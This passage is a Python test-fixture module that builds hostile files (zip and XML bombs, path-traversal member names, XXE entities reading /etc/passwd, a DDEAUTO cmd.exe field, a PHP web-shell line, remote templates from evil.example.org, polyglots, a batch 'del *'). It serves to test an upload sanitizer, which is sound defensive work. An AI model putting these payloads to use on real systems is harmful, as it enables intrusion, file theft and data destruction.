"""Hostile files, built when they are asked for: each with its name and the verdict that it must get.

A verdict is `document`, `picture` or `sound` for what is taken, otherwise the code of UnreadableDocument. `limits`
marks those whose verdict comes from the limits of the child process and not from a parser.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from random import Random

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.core.test_documents import (
    HELLO,
    MACRO_TYPE,
    SHEET_TYPE,
    locked_pdf,
    odt_file,
    packed,
    pdf_file,
    word_file,
)

MEGABYTE = 1024 * 1024
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """One file. `gone` are bytes that may stand in nothing that is kept or shown of it."""

    id: str
    filename: str
    verdict: str
    build: Callable[[], bytes]
    limits: bool = False
    gone: bytes = b""


# --- Zip -----------------------------------------------------------------------------------------------------------


def forged(
    content: bytes,
    member: str,
    *,
    size: int | None = None,
    packed_size: int | None = None,
    flags: int = 0,
    method: int | None = None,
) -> bytes:
    """The list of a zip says something else about one member than is true."""
    forged_content = bytearray(content)
    at = content.rfind(b"PK\1\2")
    places = []
    at = content.find(b"PK\1\2")
    while at >= 0:
        places.append(at)
        at = content.find(b"PK\1\2", at + 4)
    for at in places:
        length = int.from_bytes(content[at + 28 : at + 30], "little")
        if content[at + 46 : at + 46 + length].decode() != member:
            continue
        if size is not None:
            forged_content[at + 24 : at + 28] = size.to_bytes(4, "little")
        if packed_size is not None:
            forged_content[at + 20 : at + 24] = packed_size.to_bytes(4, "little")
        if flags:
            forged_content[at + 8 : at + 10] = flags.to_bytes(2, "little")
        if method is not None:
            forged_content[at + 10 : at + 12] = method.to_bytes(2, "little")
    return bytes(forged_content)


def overlapping() -> bytes:
    """Two hundred members of the list are one and the same stretch of the file."""
    content = word_file(more={f"word/media/image{n:03}.png": b"x" * 50 for n in range(200)})
    forged_content = bytearray(content)
    first = content.find(b"word/media/image000.png") - 30
    at = content.find(b"PK\1\2")
    while at >= 0:
        if content[at + 46 : at + 62] == b"word/media/image":
            forged_content[at + 42 : at + 46] = first.to_bytes(4, "little")
        at = content.find(b"PK\1\2", at + 4)
    return bytes(forged_content)


def named_members(*names: str, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A Word file with members of these names, some of which no honest program writes."""
    file = io.BytesIO(word_file())
    with zipfile.ZipFile(file, "a", method) as package:
        for name in names:
            member = zipfile.ZipInfo("x")
            member.filename = name
            package.NameToInfo.pop(name, None)
            package.writestr(member, "x")
    return file.getvalue()


def nested(depth: int) -> bytes:
    content = packed({"0": bytes(MEGABYTE)})
    for _level in range(depth):
        content = packed({f"{n}.zip": content for n in range(10)})
    return content


def related(*links: str, body: str = HELLO) -> bytes:
    relations = f"<Relationships>{''.join(links)}</Relationships>"
    return word_file(body, more={"word/_rels/document.xml.rels": relations.encode()})


def link(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def field(*texts: str) -> bytes:
    return word_file(HELLO + "".join(f"<w:p><w:r><w:instrText>{text}</w:instrText></w:r></w:p>" for text in texts))


def stored_by(method: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word_file())) as old, zipfile.ZipFile(file, "w", method) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return file.getvalue()


ZIPS = [
    Hostile("zip-flat-bomb", "a.docx", "bomb", lambda: word_file(more={"word/media/a.png": bytes(3 * MEGABYTE)})),
    Hostile("zip-text-bomb", "a.docx", "bomb", lambda: word_file(f"<w:p><w:r><w:t>{'A' * 5 * MEGABYTE}</w:t></w:r></w:p>")),
    Hostile("zip-odt-bomb", "a.odt", "bomb", lambda: odt_file(f"<t:p>{'A' * 5 * MEGABYTE}</t:p>")),
    Hostile("zip-many-members", "a.docx", "bomb", lambda: word_file(more={f"m{n}": b"" for n in range(2001)})),
    Hostile("zip-nested", "a.docx", "wrong_kind", lambda: nested(2)),
    Hostile("zip-nested-odt", "a.odt", "wrong_kind", lambda: nested(2)),
    Hostile("zip-nested-inside", "a.docx", "document", lambda: word_file(more={"word/media/a.zip": nested(1)})),
    Hostile("zip-overlapping", "a.docx", "bomb", overlapping),
    Hostile("zip-says-300-mb", "a.docx", "bomb", lambda: forged(word_file(), "word/document.xml", size=300 * MEGABYTE)),
    Hostile("zip-says-4-gb", "a.docx", "bomb", lambda: forged(word_file(), "word/document.xml", size=0xFFFFFFFE)),
    Hostile("zip-says-less", "a.docx", "corrupt", lambda: forged(word_file(HELLO * 100), "word/document.xml", size=40)),
    Hostile("zip-packed-says-more", "a.docx", "bomb", lambda: forged(word_file(more={"z": b"x" * 90}), "word/document.xml", packed_size=9_000_000)),
    Hostile("zip-bzip2", "a.docx", "document", lambda: stored_by(zipfile.ZIP_BZIP2)),
    Hostile("zip-lzma", "a.docx", "document", lambda: stored_by(zipfile.ZIP_LZMA)),
    Hostile("zip-unknown-method", "a.docx", "corrupt", lambda: forged(word_file(), "word/document.xml", method=99)),
    Hostile("zip-encrypted-member", "a.docx", "encrypted", lambda: forged(word_file(), "word/document.xml", flags=1)),
    Hostile("zip-encrypted-any", "a.docx", "encrypted", lambda: forged(packed({"a.txt": "x"}), "a.txt", flags=1)),
    Hostile("zip-empty", "a.docx", "wrong_kind", lambda: b"PK\5\6" + bytes(18)),
    Hostile("zip-head-only", "a.docx", "corrupt", lambda: b"PK\3\4" + bytes(200)),
    Hostile("zip-two-documents", "a.docx", "corrupt", lambda: named_members("word/document.xml")),
    Hostile("zip-parent", "a.docx", "corrupt", lambda: named_members("../../../../tmp/evil")),
    Hostile("zip-parent-inside", "a.docx", "corrupt", lambda: named_members("word/../../evil")),
    Hostile("zip-parent-backslash", "a.docx", "corrupt", lambda: named_members("..\\..\\evil.dll")),
    Hostile("zip-absolute", "a.docx", "corrupt", lambda: named_members("/etc/cron.d/evil")),
    Hostile("zip-drive", "a.docx", "corrupt", lambda: named_members("C:\\Windows\\evil.dll")),
    Hostile("zip-network", "a.docx", "corrupt", lambda: named_members("\\\\server\\share\\evil")),
    Hostile("zip-nul-in-name", "a.docx", "corrupt", lambda: named_members("word/a.xml\0.png")),
    Hostile("zip-newline-in-name", "a.docx", "corrupt", lambda: named_members("word/a\nb.xml")),
    Hostile("zip-long-name", "a.docx", "document", lambda: named_members("a" * 5000)),
    Hostile("zip-plain", "a.docx", "wrong_kind", lambda: packed({"run.exe": b"MZ"})),
    Hostile("zip-jar", "a.odt", "wrong_kind", lambda: packed({"META-INF/MANIFEST.MF": "Main-Class: a", "a.class": b"\xca\xfe\xba\xbe"})),
    Hostile("zip-epub", "a.odt", "wrong_kind", lambda: odt_file("<t:p>x</t:p>", mimetype="application/epub+zip")),
    Hostile("zip-ods", "a.odt", "wrong_kind", lambda: odt_file("", mimetype="application/vnd.oasis.opendocument.spreadsheet")),
]  # fmt: skip


# --- XML -----------------------------------------------------------------------------------------------------------

LAUGHS = (
    "<!DOCTYPE d [<!ENTITY l0 'ha'>" + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
)
QUADRATIC = f"<!DOCTYPE d [<!ENTITY a '{'a' * 50_000}'>]>"
FETCHED = "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"


def part(name: str, content: str) -> bytes:
    """A Word file whose part `name` is this."""
    return word_file(more={name: content.encode()})


def deep(levels: int) -> str:
    return "<w:sdt>" * levels + HELLO + "</w:sdt>" * levels


XMLS = [
    Hostile("xml-billion-laughs", "a.docx", "corrupt", lambda: word_file("&l9;", prolog=LAUGHS)),
    Hostile("xml-billion-laughs-odt", "a.odt", "corrupt", lambda: packed({"mimetype": "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": "<m/>", "content.xml": LAUGHS + "<d>&l9;</d>"})),
    Hostile("xml-billion-laughs-properties", "a.docx", "corrupt", lambda: part("docProps/core.xml", LAUGHS + "<d>&l9;</d>")),
    Hostile("xml-billion-laughs-styles", "a.docx", "corrupt", lambda: part("word/styles.xml", LAUGHS + "<d>&l9;</d>")),
    Hostile("xml-billion-laughs-links", "a.docx", "corrupt", lambda: part("word/_rels/document.xml.rels", LAUGHS + "<d>&l9;</d>")),
    Hostile("xml-billion-laughs-types", "a.docx", "corrupt", lambda: packed({"[Content_Types].xml": LAUGHS + "<Types>&l9;</Types>"})),
    Hostile("xml-quadratic", "a.docx", "corrupt", lambda: word_file("&a;" * 5000, prolog=QUADRATIC)),
    Hostile("xml-file-entity", "a.docx", "corrupt", lambda: word_file(FETCHED, prolog="<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"), gone=b"root:"),
    Hostile("xml-http-entity", "a.docx", "corrupt", lambda: word_file(FETCHED, prolog="<!DOCTYPE d [<!ENTITY x SYSTEM 'http://127.0.0.1:9/x'>]>")),
    Hostile("xml-parameter-entity", "a.docx", "corrupt", lambda: word_file(HELLO, prolog="<!DOCTYPE d [<!ENTITY % x SYSTEM 'http://127.0.0.1:9/x'> %x;]>")),
    Hostile("xml-external-dtd", "a.odt", "corrupt", lambda: packed({"mimetype": "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": "<m/>", "content.xml": "<!DOCTYPE d SYSTEM 'http://127.0.0.1:9/d.dtd'><d/>"})),
    Hostile("xml-empty-dtd", "a.docx", "corrupt", lambda: word_file(HELLO, prolog="<!DOCTYPE d>")),
    Hostile("xml-utf16-dtd", "a.docx", "corrupt", lambda: word_file(more={"docProps/core.xml": "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE d [<!ENTITY a 'x'>]><d>&a;</d>".encode("utf-16")})),
    Hostile("xml-include", "a.docx", "document", lambda: word_file(HELLO + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), gone=b"root:"),
    Hostile("xml-stylesheet", "a.docx", "document", lambda: word_file(HELLO, prolog='<?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?>')),
    Hostile("xml-deep", "a.docx", "bomb", lambda: word_file(deep(5_000))),
    Hostile("xml-very-deep", "a.docx", "bomb", lambda: word_file(deep(15_000)), limits=True),
    Hostile("xml-deep-odt", "a.odt", "bomb", lambda: odt_file("<t:span>" * 5_000 + "a" + "</t:span>" * 5_000)),
    Hostile("xml-many-attributes", "a.docx", "no_text", lambda: word_file("<w:p " + " ".join(f'a{n}="1"' for n in range(20_000)) + "/>")),
    Hostile("xml-unfinished", "a.docx", "corrupt", lambda: word_file("<w:p><w:r>")),
    Hostile("xml-two-roots", "a.docx", "corrupt", lambda: part("word/styles.xml", "<a/><b/>")),
    Hostile("xml-no-body", "a.docx", "no_text", lambda: word_file("")),
    Hostile("xml-bad-character", "a.docx", "corrupt", lambda: word_file("<w:p><w:r><w:t>a\x01b</w:t></w:r></w:p>")),
    Hostile("xml-markup-as-text", "a.docx", "document", lambda: word_file("<w:p><w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt;</w:t></w:r></w:p>")),
]  # fmt: skip


# --- What acts by itself -------------------------------------------------------------------------------------------

ACTIVE = [
    Hostile("active-docm", "a.docm", "wrong_kind", lambda: word_file(content_type=MACRO_TYPE)),
    Hostile("active-docm-as-docx", "a.docx", "wrong_kind", lambda: word_file(content_type=MACRO_TYPE)),
    Hostile("active-macros", "a.docx", "wrong_kind", lambda: word_file(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    Hostile("active-odt-basic", "a.odt", "wrong_kind", lambda: _odt_with("Basic/Standard/Module1.xml")),
    Hostile("active-odt-python", "a.odt", "wrong_kind", lambda: _odt_with("Scripts/python/evil.py")),
    Hostile("active-ole", "a.docx", "wrong_kind", lambda: word_file(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
    Hostile("active-control", "a.docx", "wrong_kind", lambda: word_file(more={"word/activeX/activeX1.xml": b"<a/>"})),
    Hostile("active-ribbon", "a.docx", "wrong_kind", lambda: word_file(more={"customUI/customUI.xml": b"<a/>"})),
    Hostile("active-template", "a.docx", "wrong_kind", lambda: related(link("attachedTemplate", "http://evil.example.org/t.dotm"))),
    Hostile("active-template-share", "a.docx", "wrong_kind", lambda: related(link("attachedTemplate", "\\\\evil\\t.dotm"))),
    Hostile("active-template-file-share", "a.docx", "wrong_kind", lambda: related(link("attachedTemplate", "file://evil/t.dotm"))),
    Hostile("template-of-ones-own", "a.docx", "document", lambda: related(link("attachedTemplate", "file:///C:\\Users\\Jo\\t.dotx"))),
    Hostile("active-object-elsewhere", "a.docx", "wrong_kind", lambda: related(link("oleObject", "http://evil.example.org/x"))),
    Hostile("active-frame", "a.docx", "wrong_kind", lambda: related(link("frame", "http://evil.example.org/x"))),
    Hostile("active-alternative-part", "a.docx", "wrong_kind", lambda: related(link("aFChunk", "page.mht", "Internal"))),
    Hostile("active-dde", "a.docx", "wrong_kind", lambda: field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")),
    Hostile("active-dde-in-pieces", "a.docx", "wrong_kind", lambda: field(" DD", "EAUTO c:\\\\cmd.exe")),
    Hostile("active-dde-simple", "a.docx", "wrong_kind", lambda: word_file(HELLO + '<w:fldSimple w:instr="DDE cmd x"/>')),
    Hostile("active-include", "a.docx", "wrong_kind", lambda: field("INCLUDETEXT \"\\\\\\\\evil\\\\x\"")),
    Hostile("picture-elsewhere", "a.docx", "document", lambda: related(link("image", "http://evil.example.org/pixel.png"))),
    Hostile("link-script", "a.docx", "document", lambda: related(link("hyperlink", "javascript:alert(1)")), gone=b"javascript:"),
    Hostile("workbook-as-docx", "a.docx", "wrong_kind", lambda: word_file(content_type=SHEET_TYPE)),
    Hostile("template-as-docx", "a.docx", "wrong_kind", lambda: word_file(content_type="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")),
]  # fmt: skip


def _odt_with(member: str) -> bytes:
    file = io.BytesIO(odt_file("<t:p>Hello</t:p>"))
    with zipfile.ZipFile(file, "a") as package:
        package.writestr(member, "x")
    return file.getvalue()


# --- Names ---------------------------------------------------------------------------------------------------------

NAMES = [
    Hostile(f"name-{word}", name, "document", word_file)
    for word, name in {
        "parent": "../../etc/passwd.docx",
        "absolute": "/var/www/a.docx",
        "windows": "..\\..\\a.docx",
        "nul": "a.php\0.docx",
        "turned": "report\u202excod.exe",
        "long": "a" * 4000 + ".docx",
        "device": "CON.docx",
        "stream": "a.docx::$DATA",
        "hidden": ".htaccess",
        "empty": "",
        "dots": "....",
        "newline": "a\r\nSet-Cookie: b=c.docx",
        "script": "<script>alert(1)</script>.docx",
        "two-endings": "a.docx.hta",
        "share": "\\\\evil\\share\\a.docx",
        "combining": "a" + "\u0301" * 500 + ".docx",
    }.items()
]


# --- Two kinds at once ---------------------------------------------------------------------------------------------

PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\0\3\0\0\0" + b"This program cannot be run in DOS mode" + bytes(300)


def jpeg(size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(file, "JPEG", **options)
    return file.getvalue()


def png(size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: object) -> bytes:
    file = io.BytesIO()
    Image.new(mode, size).save(file, "PNG", **options)
    return file.getvalue()


def webp(size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size).save(file, "WEBP", **options)
    return file.getvalue()


def gif(**options: object) -> bytes:
    file = io.BytesIO()
    Image.new("P", (4, 4)).save(file, "GIF", **options)
    return file.getvalue()


def hello_pdf() -> bytes:
    return pdf_file([(600, "Hello set")])


POLYGLOTS = [
    Hostile("both-pdf-zip", "a.pdf", "wrong_kind", lambda: hello_pdf() + packed({"evil.exe": EXE})),
    Hostile("both-pdf-docx", "a.pdf", "wrong_kind", lambda: hello_pdf() + word_file()),
    Hostile("both-zip-pdf", "a.docx", "wrong_kind", lambda: word_file() + hello_pdf()),
    Hostile("both-html-pdf", "a.pdf", "wrong_kind", lambda: b"<html><script>alert(1)</script></html>" + hello_pdf()),
    Hostile("both-pdf-html", "a.pdf", "document", lambda: raw_pdf(objects(o5="(<script>alert(1)</script>)")), gone=b"<script>"),
    Hostile("both-gif-pdf", "a.pdf", "wrong_kind", lambda: b"GIF89a" + hello_pdf()),
    Hostile("both-gif-js", "a.gif", "wrong_kind", lambda: b"GIF89a/*" + gif()[8:] + b"*/=1;alert(1)"),
    Hostile("both-gif-js-as-png", "a.png", "wrong_kind", lambda: b"GIF89a/*" + bytes(90) + b"*/=1;alert(1)"),
    Hostile("both-jpeg-php", "a.jpg", "picture", lambda: jpeg() + PHP, gone=PHP),
    Hostile("both-jpeg-comment-php", "a.jpg", "picture", lambda: jpeg(comment=PHP), gone=PHP),
    Hostile("both-jpeg-named-php", "a.php", "wrong_kind", lambda: jpeg() + PHP),
    Hostile("both-png-html", "a.png", "picture", lambda: png() + b"<script>alert(1)</script>", gone=b"<script>"),
    Hostile("both-png-zip", "a.png", "picture", lambda: png() + word_file(), gone=b"PK\3\4"),
    Hostile("both-webp-js", "a.webp", "picture", lambda: webp() + b"*/=1;alert(1)", gone=b"alert(1)"),
    Hostile("both-jpeg-docx", "a.docx", "wrong_kind", lambda: jpeg() + word_file()),
    Hostile("both-docx-exe", "a.docx", "wrong_kind", lambda: word_file() + EXE),
    Hostile("both-exe-docx", "a.docx", "wrong_kind", lambda: EXE + word_file()),
    Hostile("both-docx-in-docx", "a.docx", "wrong_kind", lambda: word_file() + word_file()),
    Hostile("both-zip-comment", "a.docx", "document", lambda: _commented(b"<script>alert(1)</script>"), gone=b"<script>"),
    Hostile("both-text-html", "a.txt", "document", lambda: b"Hello\n<script>alert(1)</script>"),
]  # fmt: skip


def _commented(comment: bytes) -> bytes:
    file = io.BytesIO(word_file())
    with zipfile.ZipFile(file, "a") as package:
        package.comment = comment
    return file.getvalue()


# --- Endings that lie ----------------------------------------------------------------------------------------------

CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

MISNAMED = [
    Hostile(f"wrong-{word}", name, "wrong_kind", partial(bytes, content))
    for word, name, content in [
        ("exe", "a.docx", EXE),
        ("exe-as-txt", "a.txt", EXE),
        ("elf", "a.pdf", b"\x7fELF\2\1\1" + bytes(200)),
        ("html", "a.docx", b"<!DOCTYPE html><p>Hello"),
        ("html-as-md", "a.md", b"<html><body>Hello"),
        ("svg", "a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("svg-as-txt", "a.txt", b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
        ("rtf", "a.docx", b"{\\rtf1\\object Hello}"),
        ("rtf-as-txt", "a.txt", b"{\\rtf1 Hello}"),
        ("old-doc", "a.docx", CFB + bytes(600)),
        ("old-xls", "a.docx", CFB + "Workbook".encode("utf-16-le") + bytes(600)),
        ("msi", "a.doc", CFB + bytes(600)),
        ("text-as-docx", "a.docx", b"just words"),
        ("text-as-mp3", "a.mp3", b"just words"),
        ("text-as-jpg", "a.jpg", b"just words"),
        ("bat", "a.bat", b"@echo off\r\ndel *"),
        ("shortcut", "a.url", b"[InternetShortcut]\r\nURL=file://evil/x"),
        ("lnk", "a.txt", b"L\0\0\0\1\x14\2\0" + bytes(100)),
        ("class", "a.txt", b"\xca\xfe\xba\xbe\0\0\0\x34"),
        ("gzip", "a.txt", b"\x1f\x8b\x08\0" + bytes(40)),
        ("7z", "a.docx", b"7z\xbc\xaf\x27\x1c" + bytes(40)),
        ("tar", "a.txt", b"a.txt" + bytes(507)),
        ("sqlite", "a.odt", b"SQLite format 3\0" + bytes(80)),
        ("png-as-pdf", "a.pdf", png()),
        ("jpeg-as-txt", "a.txt", jpeg()),
        ("webp-as-docx", "a.docx", webp()),
        ("bmp", "a.png", b"BM" + (100).to_bytes(4, "little") + bytes(100)),
        ("tiff", "a.jpg", b"II*\0" + bytes(100)),
        ("ico", "a.png", b"\0\0\1\0\1\0" + bytes(100)),
        ("eps", "a.png", b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run"),
        ("heic", "a.jpg", b"\0\0\0\x18ftypheic" + bytes(40)),
        ("avif", "a.png", b"\0\0\0\x18ftypavif" + bytes(40)),
        ("avi", "a.wav", b"RIFF\x40\0\0\0AVI LIST" + bytes(60)),
        ("matroska", "a.mp4", b"\x1a\x45\xdf\xa3" + bytes(60)),
    ]
] + [
    Hostile("right-pdf-as-png", "a.png", "document", hello_pdf),
    Hostile("right-docx-as-pdf", "a.pdf", "document", word_file),
    Hostile("right-png-as-jpg", "a.jpg", "picture", png),
]  # fmt: skip


# --- Cut off -------------------------------------------------------------------------------------------------------


def cut(build: Callable[[], bytes], share: float) -> Callable[[], bytes]:
    def shorter() -> bytes:
        content = build()
        return content[: int(len(content) * share)]

    return shorter


CUT = [
    Hostile(f"cut-{kind}-{share:.0%}", f"a.{kind}", "corrupt", cut(build, share))
    for kind, build in {
        "docx": lambda: word_file(HELLO * 50),
        "odt": lambda: odt_file("<t:p>Hello</t:p>" * 50),
        "pdf": lambda: pdf_file(*[[(600, "Hello set")]] * 3),
        "png": lambda: noise("PNG"),
        "jpg": lambda: noise("JPEG"),
        "webp": lambda: noise("WEBP"),
    }.items()
    for share in (0.3, 0.6, 0.95)
]


def noise(form: str) -> bytes:
    """A picture of which every part matters."""
    file = io.BytesIO()
    Image.frombytes("RGB", (120, 90), Random(1).randbytes(120 * 90 * 3)).save(file, form)
    return file.getvalue()


# --- Locked --------------------------------------------------------------------------------------------------------

LOCKED = [
    Hostile("locked-docx", "a.docx", "encrypted", lambda: CFB + bytes(500) + "EncryptedPackage".encode("utf-16-le")),
    Hostile("locked-docx-as-txt", "a.txt", "encrypted", lambda: CFB + bytes(500) + "EncryptedPackage".encode("utf-16-le")),
    Hostile("locked-pdf", "a.pdf", "encrypted", lambda: locked_pdf(password="secret")),
    Hostile("locked-pdf-aes", "a.pdf", "encrypted", lambda: _aes_pdf()),
    Hostile("locked-odt", "a.odt", "encrypted", lambda: odt_file("<t:p>x</t:p>", manifest="<m><encryption-data/></m>")),
    Hostile("locked-for-changes-only", "a.pdf", "document", lambda: locked_pdf(password="")),
]  # fmt: skip


def _aes_pdf() -> bytes:
    lock = (
        "<< /Filter /Standard /V 5 /R 6 /Length 256 /P -1 /O <" + "00" * 48 + "> /U <" + "00" * 48 + "> "
        "/OE <" + "00" * 32 + "> /UE <" + "00" * 32 + "> /Perms <" + "00" * 16 + "> "
        "/CF << /StdCF << /AuthEvent /DocOpen /CFM /AESV3 /Length 32 >> >> /StmF /StdCF /StrF /StdCF >>"
    )
    return raw_pdf(PAGE, trailer=f"/Encrypt {lock} /ID [<00> <00>]")


# --- PDF -----------------------------------------------------------------------------------------------------------

TEXT = b"BT /F1 12 Tf 72 700 Td (Hello set) Tj ET"
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(content: bytes, entries: str = "") -> bytes:
    return f"<< {entries} /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream"


def flate(content: bytes, times: int = 1) -> bytes:
    for _time in range(times):
        content = zlib.compress(content, 9)
    filters = " ".join(["/FlateDecode"] * times)
    return stream(content, f"/Filter [{filters}]")


def page(**entries: str) -> str:
    wanted = {
        "Type": "/Page", "Parent": "2 0 R", "MediaBox": "[0 0 595 842]", "Contents": "4 0 R",
        "Resources": f"<< /Font << /F1 {FONT} >> >>",
    } | entries  # fmt: skip
    return "<< " + " ".join(f"/{name} {value}" for name, value in wanted.items()) + " >>"


def objects(**more: str | bytes) -> dict[int, str | bytes]:
    """Catalogue, pages, a page and what it shows; `o5=` adds or changes object 5."""
    found: dict[int, str | bytes] = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: page(),
        4: stream(TEXT),
    }
    return found | {int(name[1:]): content for name, content in more.items()}


PAGE = objects()


def raw_pdf(parts: dict[int, str | bytes], *, trailer: str = "", startxref: int | None = None) -> bytes:
    """A PDF of these objects, whatever they say."""
    file = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in parts.items():
        places[number] = len(file)
        file += (
            f"{number} 0 obj\n".encode() + (content.encode() if isinstance(content, str) else content) + b"\nendobj\n"
        )
    at = len(file)
    size = max(parts) + 1
    file += f"xref\n0 {size}\n".encode()
    for number in range(size):
        file += f"{places.get(number, 0):010} {0:05} {'n' if number in places else 'f'} \n".encode()
    file += f"trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{at if startxref is None else startxref}\n%%EOF\n".encode()
    return bytes(file)


def many_pages(count: int) -> bytes:
    kids = " ".join(f"{n} 0 R" for n in range(5, 5 + count))
    parts = objects(o2=f"<< /Type /Pages /Kids [{kids}] /Count {count} >>")
    return raw_pdf(parts | {n: page() for n in range(5, 5 + count)})


def object_stream(content: bytes, entries: str) -> bytes:
    return raw_pdf(objects(o5=stream(zlib.compress(content, 9), f"/Type /ObjStm {entries} /Filter /FlateDecode")))


def cmap(body: str) -> bytes:
    text = f"begincmap\n1 begincodespacerange <0000> <FFFF> endcodespacerange\n{body}\nendcmap".encode()
    font = "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 5 0 R >>"
    return raw_pdf(objects(o3=page(Resources=f"<< /Font << /F1 {font} >> >>"), o5=flate(text)))


def xref_stream_loop() -> bytes:
    body = b"%PDF-1.7\n"
    loop = f"1 0 obj\n<< /Type /XRef /Size 2 /W [1 2 1] /Root 1 0 R /Prev {len(body)} /Length 8 >>\nstream\n".encode()
    return body + loop + bytes(8) + f"\nendstream\nendobj\nstartxref\n{len(body)}\n%%EOF".encode()


def xref_loop() -> bytes:
    content = raw_pdf(PAGE)
    at = int(content.rsplit(b"startxref\n", 1)[1].split()[0])
    return raw_pdf(PAGE, trailer=f"/Prev {at}")


def acting(action: str) -> bytes:
    return raw_pdf(objects(o1=f"<< /Type /Catalog /Pages 2 0 R /OpenAction {action} >>"))


def holding_file() -> bytes:
    spec = "<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 6 0 R >> >>"
    names = "<< /EmbeddedFiles << /Names [(evil.exe) 5 0 R] >> >>"
    return raw_pdf(objects(o1=f"<< /Type /Catalog /Pages 2 0 R /Names {names} >>", o5=spec, o6=stream(EXE)))


PDFS = [
    Hostile("pdf-content-bomb", "a.pdf", "bomb", lambda: raw_pdf(objects(o4=flate(b" " * 150 * MEGABYTE))), limits=True),
    Hostile("pdf-filter-chain", "a.pdf", "bomb", lambda: raw_pdf(objects(o4=flate(b" " * 150 * MEGABYTE, times=3))), limits=True),
    Hostile("pdf-many-filters", "a.pdf", "bomb", lambda: raw_pdf(objects(o4=flate(TEXT, times=30)))),
    Hostile("pdf-object-stream-bomb", "a.pdf", "document", lambda: object_stream(b"6 0 " + b" " * 60 * MEGABYTE, "/N 1 /First 4"), limits=True),
    Hostile("pdf-run-length-bomb", "a.pdf", "bomb", lambda: raw_pdf(objects(o4=stream(b"\x81 " * 3_000_000 + b"\x80", "/Filter /RunLengthDecode"))), limits=True),
    Hostile("pdf-lzw-rubbish", "a.pdf", "no_text", lambda: raw_pdf(objects(o4=stream(b"\x80\x0b\x60\x50", "/Filter /LZWDecode")))),
    Hostile("pdf-operators-bomb", "a.pdf", "bomb", lambda: raw_pdf(objects(o4=flate((b"BT /F1 12 Tf (Hello) Tj ET\n") * 400_000))), limits=True),
    Hostile("pdf-page-of-itself", "a.pdf", "corrupt", lambda: raw_pdf(objects(o2="<< /Type /Pages /Kids [2 0 R] /Count 1 >>"))),
    Hostile("pdf-pages-in-a-ring", "a.pdf", "corrupt", lambda: raw_pdf(objects(o2="<< /Type /Pages /Kids [5 0 R] /Count 1 >>", o5="<< /Type /Pages /Kids [2 0 R] /Count 1 >>"))),
    Hostile("pdf-deep-page-tree", "a.pdf", "bomb", lambda: raw_pdf(objects(**{f"o{n}": f"<< /Type /Pages /Kids [{n + 1} 0 R] /Count 1 >>" for n in range(5, 3000)}, o2="<< /Type /Pages /Kids [5 0 R] /Count 1 >>", o3000=page()))),
    Hostile("pdf-says-many-pages", "a.pdf", "document", lambda: raw_pdf(objects(o2="<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>"))),
    Hostile("pdf-501-pages", "a.pdf", "too_large", lambda: many_pages(501)),
    Hostile("pdf-one-page-many-times", "a.pdf", "too_large", lambda: raw_pdf(objects(o2=f"<< /Type /Pages /Kids [{'3 0 R ' * 3000}] /Count 3000 >>"))),
    Hostile("pdf-list-loop", "a.pdf", "document", xref_loop),
    Hostile("pdf-list-stream-loop", "a.pdf", "corrupt", xref_stream_loop),
    Hostile("pdf-list-elsewhere", "a.pdf", "document", lambda: raw_pdf(PAGE, startxref=99_999_999)),
    Hostile("pdf-list-negative", "a.pdf", "document", lambda: raw_pdf(PAGE, startxref=-5)),
    Hostile("pdf-form-in-itself", "a.pdf", "document", lambda: raw_pdf(objects(o3=page(Resources=f"<< /Font << /F1 {FONT} >> /XObject << /X 5 0 R >> >>"), o4=stream(TEXT + b" /X Do"), o5=stream(b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>")))),
    Hostile("pdf-contents-many-times", "a.pdf", "bomb", lambda: raw_pdf(objects(o3=page(Contents=f"[{'4 0 R ' * 60_000}]"))), limits=True),
    Hostile("pdf-letters-bomb", "a.pdf", "bomb", lambda: cmap("1 beginbfrange\n<00000000> <FFFFFFFF> <0000>\nendbfrange"), limits=True),
